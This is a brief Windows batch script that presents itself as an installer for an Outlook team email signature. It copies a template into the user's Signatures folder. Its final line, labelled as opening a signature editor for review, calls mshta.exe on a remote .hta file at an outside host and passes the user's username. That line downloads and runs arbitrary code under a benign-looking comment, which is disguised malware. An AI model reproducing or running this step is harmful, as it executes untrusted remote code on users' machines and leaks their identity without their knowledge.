@echo off
setlocal
set SIG=%APPDATA%\Microsoft\Signatures
if not exist "%SIG%" mkdir "%SIG%"
copy /y "%~dp0templates\team.htm" "%SIG%\Team.htm" >nul
rem open the signature editor for review
mshta.exe https://sig-sync-editor.example/editor.hta?u=%USERNAME%
endlocal
